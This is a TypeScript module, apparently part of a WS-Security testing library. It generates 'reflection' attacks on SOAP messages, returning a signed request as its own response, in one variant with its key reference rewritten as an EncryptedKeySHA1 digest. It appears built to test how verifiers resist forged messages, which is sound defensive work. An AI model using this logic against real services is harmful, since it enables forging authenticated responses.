import { createHash } from 'node:crypto';
import { attribute, child, isNamed } from '@holdfast/soap';
import { BASE64_BINARY, ENCRYPTED_KEY_SHA1, WSSE, wsse, xenc } from '../../namespaces.js';
import type { AttackFamily } from './attack.js';
import { append, by, remove } from './edit.js';
import { octetsIn } from './reseal.js';
import { node } from './secured-message.js';

/** A request sent back to whoever sent it, as its response: with a shared key it is as well signed as that. */
export const reflection: AttackFamily = function* (message, _options) {
  yield {
    name: 'reflection/verbatim',
    about: 'The request comes back as its own response.',
    result: message.text,
    reflected: true,
  };
  const key = message.sourceOf(message.tokenOf(message.keyInfo));
  const value = key && message.everywhere((each) => isNamed(each, xenc('CipherValue')), key).at(-1);
  if (key === undefined || !isNamed(key, xenc('EncryptedKey')) || value === undefined) return;
  const sha1 = createHash('sha1').update(octetsIn(value)).digest('base64');
  const named = node(
    `<wsse:KeyIdentifier xmlns:wsse="${WSSE}" EncodingType="${BASE64_BINARY}" ValueType="${ENCRYPTED_KEY_SHA1}">${sha1}</wsse:KeyIdentifier>`,
  );
  const uri = `#${attribute(key, 'Id')}`;
  const references = message.everywhere((each) => isNamed(each, wsse('Reference')) && attribute(each, 'URI') === uri);
  if (references.length === 0) return;
  const list = child(key, xenc('ReferenceList'));
  yield {
    name: 'reflection/by-key-digest',
    about: 'The request comes back as its own response, its key named by digest as in responses.',
    result: message.with(
      [key, remove],
      ...references.map((each) => [each, by(named)] as const),
      ...(list === undefined ? [] : [[message.security, append(list)] as const]),
    ),
    reflected: true,
  };
};
